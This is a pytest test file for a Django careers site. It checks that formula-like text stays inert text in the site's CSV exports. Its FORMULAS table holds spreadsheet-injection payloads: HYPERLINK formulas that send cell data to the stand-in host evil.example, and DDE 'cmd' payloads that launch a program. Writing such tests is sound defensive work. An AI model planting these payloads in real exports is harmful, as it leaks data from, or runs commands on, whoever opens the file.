"""Text a spreadsheet would run as a formula stays text in every CSV the site
gives out: a career page's data.csv, and the admin's export of the pages."""

import csv
import io

import pytest

from occupations.models import CareerPage
from tests.admin_forms import admin_url
from tests.factories import CareerPageFactory, full_career

pytestmark = pytest.mark.django_db

CSV_FORMAT = "0"  # the first of SpreadsheetMixin.formats

# Each start Excel or LibreOffice runs as a formula (or, a tab or a carriage
# return, after skipping it): one a payload, as an attacker would write it.
FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
    "+": '+HYPERLINK("https://evil.example/")',
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": '\t=HYPERLINK("https://evil.example/")',
    "carriage return": '\r=HYPERLINK("https://evil.example/")',
}


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_data_csv_keeps_a_text_starting_like_a_formula_as_text(client, formula):
    """The typical education comes from the BLS files: whatever they hold, the
    page's data.csv must not run it on the computer of whoever opens it."""
    page = full_career()
    page.occupation.projections.update(typical_education=formula)
    rows = csv_rows(client.get(f"/careers/{page.slug}/data.csv"))
    figures = {row["measure"]: row for row in rows}
    assert figures["typical education needed for entry"]["value"] == f"'{formula}"


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_admin_export_keeps_a_text_starting_like_a_formula_as_text(
    admin_client, formula
):
    """An editor's text, opened by another editor in a spreadsheet."""
    CareerPageFactory(summary=formula, duties="Plain duties.")
    response = admin_client.post(
        admin_url(CareerPage, "export"), {"format": CSV_FORMAT, "resource": "0"}
    )
    (cells,) = csv_rows(response)
    assert cells["summary"] == f"'{formula}"
    assert cells["duties"] == "Plain duties."  # the others as they are
